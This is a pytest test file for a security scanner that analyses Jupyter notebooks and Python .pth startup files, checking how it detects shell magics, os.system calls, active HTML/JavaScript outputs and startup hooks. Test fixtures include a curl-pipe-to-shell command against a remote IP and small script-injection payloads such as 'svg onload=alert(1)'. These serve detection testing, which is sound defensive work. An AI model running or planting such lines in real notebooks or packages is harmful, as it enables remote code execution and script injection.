from __future__ import annotations

import json

import pytest
from code_facts import calls, facts_of, findings
from hypothesis import given, settings
from hypothesis import strategies as st

from toadstone.core.fact import Anomaly, Call, Code, Import, Link, Moment, Unread
from toadstone.core.finding import Severity
from toadstone.readers.code.magics import as_python
from toadstone.readers.code.values import plain


def notebook(*sources, outputs=(), attachments=None):
    cells = [{"cell_type": "code", "source": source, "outputs": list(outputs)} for source in sources]
    cells.append({"cell_type": "markdown", "source": "# `os.system('no')`", "attachments": attachments or {}})
    return json.dumps({"cells": cells, "nbformat": 4, "nbformat_minor": 5, "metadata": {}})


def test_cells_share_one_namespace():
    facts = facts_of(notebook("import os as o\nf = o.system", ["f('echo 1')\n", "x = 1"]), "demo.ipynb")
    found = [fact for fact in facts if isinstance(fact, Call)]
    assert calls(facts) == ["os.system('echo 1')"]
    assert (found[0].when, found[0].language, found[0].place.member, found[0].place.row) == (Moment.USE, "notebook", "cell 2", 0)


@pytest.mark.parametrize(
    ("source", "command"),
    [
        ("!echo 1", "echo 1"),
        ("x = !echo 1", "echo 1"),
        ("%system echo 1", "echo 1"),
        ("%%bash\necho 1", "echo 1"),
        ("if True:\n    !echo 1\n    y = 2", "echo 1"),
        ("part = 'ho'\n!ec{part} $one", "echo 1"),
        ("!echo \\\n1", "echo 1"),
        ("%time !echo 1", "echo 1"),
        ("get_ipython().system('echo 1')", "echo 1"),
        ("get_ipython().run_cell('!echo 1')", "echo 1"),
        ("get_ipython().run_cell_magic('sh', '', 'echo 1')", "echo 1"),
        ("get_ipython().magic('sx echo 1')", "echo 1"),
        ("%alias hello echo 1", "echo 1"),
        ("%%capture\n!echo 1", "echo 1"),
        ("%%script bash\necho 1", "echo 1"),
    ],
)
def test_magics(source, command):
    facts = facts_of(notebook("one = 1", source), "demo.ipynb")
    assert [(plain(fact.args[0]), fact.how) for fact in facts if isinstance(fact, Call)] == [(command, "magic")]
    assert not [fact for fact in facts if isinstance(fact, Unread)]


@pytest.mark.parametrize(
    "source",
    [
        ",os.system one",
        ";os.system one",
        "/os.system 'one'",
        "%time os.system('one')",
        "%%timeit os.system('one')\npass",
        "%%script python3 --no-raise-error\nos.system('one')",
        "get_ipython().run_line_magic('timeit', '-n 2 os.system(\"one\")')",
        "get_ipython().ex('os.system(\"one\")')",
    ],
)
def test_code_behind_magics_is_code(source):
    facts = facts_of(notebook("import os", source), "demo.ipynb")
    assert calls(facts) == ["os.system('one')"]
    assert not [fact for fact in facts if isinstance(fact, Unread)]


def test_extensions_are_imported_and_written_files_are_read():
    facts = facts_of(notebook("%load_ext acme", "%%writefile -a tool.py\nimport os\nos.system('no')"), "demo.ipynb")
    assert [str(fact.symbol) for fact in facts if isinstance(fact, Import)] == ["acme", "os"]
    assert [fact.place.member for fact in facts if isinstance(fact, Call)] == ["cell 2/tool.py"]


@given(st.lists(st.sampled_from(["!", "%", "%%", "?", ",", ";", "/", "f", "{", "}", "$x", "\\", "\n", " ", "=", "'", "timeit"])))
@settings(max_examples=200)
def test_any_text_is_rewritten_line_by_line(parts):
    text = "".join(parts)
    assert as_python(text).count("\n") <= text.count("\n") + 1


def test_other_magics_and_cells():
    source = "%matplotlib inline\nimport os\nos?\n%timeit f()\nos.system('echo 1')"
    facts = facts_of(notebook(source, "%%time\nos.system('echo 2')", "%%html\n<b>no</b>"), "demo.ipynb")
    assert calls(facts) == ["os.system('echo 1')", "os.system('echo 2')"]
    assert not [fact for fact in facts if isinstance(fact, Unread)]


def test_ordinary_notebooks_are_silent():
    facts = facts_of(
        notebook(
            "!pip install torch",
            "import torch\nprint(torch.ones(2))",
            "!nvidia-smi",
            outputs=[{"data": {"text/html": "<table></table>", "image/png": "x"}}],
        ),
        "demo.ipynb",
    )
    assert findings(facts) == {}


def test_hostile_notebooks():
    assert findings(facts_of(notebook("!curl http://198.51.100.7/x | sh"), "demo.ipynb")) == {"suspicious-code": Severity.HIGH}


@pytest.mark.parametrize(
    "output",
    [
        {"data": {"application/javascript": "alert(1)"}},
        {"data": {"text/html": ["<div>", "<script src='http://x.invalid'>"]}},
        {"data": {"image/svg+xml": "<svg onload=alert(1)>"}},
        {"output_type": "pyout", "html": "<iframe src=x>"},
    ],
)
def test_active_outputs(output):
    facts = facts_of(notebook("x", outputs=[output]), "demo.ipynb")
    assert [fact.kind for fact in facts if isinstance(fact, Anomaly)] == ["active-content"]
    assert findings(facts) == {"notebook-active-content": Severity.MEDIUM}


def test_attachments():
    assert findings(facts_of(notebook(attachments={"a.png": {"image/png": "x"}}), "d.ipynb")) == {}
    assert "notebook-active-content" in findings(facts_of(notebook(attachments={"a": {"text/html": "x"}}), "d.ipynb"))


@pytest.mark.parametrize(
    "text",
    [
        "{",
        '{"cells": 1}',
        '{"cells": [1, null, {"cell_type": "code"}]}',
        '{"cells": [{"cell_type": "code", "source": {}, "outputs": {"a": 1}}]}',
        "[" * 100_000,
    ],
)
def test_broken_notebooks(text):
    facts = facts_of(text, "demo.ipynb")
    assert text.startswith(('{"cells": [', "[")) or any(isinstance(fact, Unread) for fact in facts)


def test_startup_lines_run_at_load():
    facts = facts_of("import os; os.system('echo 1')\n./src\n/opt/elsewhere\n# comment\nimportant\n", "hook.pth")
    assert [(fact.when, fact.how) for fact in facts if isinstance(fact, Call)] == [(Moment.LOAD, "startup:call")]
    assert [(fact.target, fact.escapes) for fact in facts if isinstance(fact, Link)] == [
        ("./src", False),
        ("/opt/elsewhere", True),
        ("important", False),
    ]
    assert findings(facts)["startup-hook"] == Severity.HIGH
    assert [fact.place.row for fact in facts if isinstance(fact, Code)] == [0]


NAMESPACE = (
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
    "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));"
    "importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');"
    "m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec("
    "importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));"
    "m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));"
    "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)"
)
PRECEDENCE = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    "enabled and __import__('_distutils_hack').add_shim(); "
)
EDITABLE = "import __editable___thing_1_0_finder; __editable___thing_1_0_finder.install()"
ORDINARY = (PRECEDENCE, EDITABLE, "import _virtualenv", NAMESPACE)


@pytest.mark.parametrize("line", ORDINARY)
def test_packaging_tools_lines_are_known(line):
    assert findings(facts_of(line, "tool.pth")) == {"startup-hook": Severity.INFO}
    assert findings(facts_of(line.rstrip("; ") + "; os.system('echo 1')", "tool.pth"))["startup-hook"] == Severity.HIGH


def test_weights_under_the_same_suffix_are_no_startup_file():
    facts = facts_of(b"\x80\x02}q\x00.", "weights.pth")
    assert not [fact for fact in facts if isinstance(fact, (Code, Link))]


@settings(max_examples=150)
@given(
    st.recursive(
        st.none() | st.booleans() | st.text(max_size=20) | st.integers(),
        lambda inner: (
            st.lists(inner, max_size=4)
            | st.dictionaries(
                st.sampled_from(
                    ["cells", "cell_type", "source", "outputs", "data", "code", "text/html", "worksheets", "attachments"]
                ),
                inner,
                max_size=4,
            )
        ),
        max_leaves=25,
    )
)
def test_any_json_as_notebook(document):
    facts_of(json.dumps(document), "demo.ipynb")


@settings(max_examples=100)
@given(st.text(max_size=200))
def test_any_text_as_startup_file(text):
    facts_of("import " + text, "hook.pth")
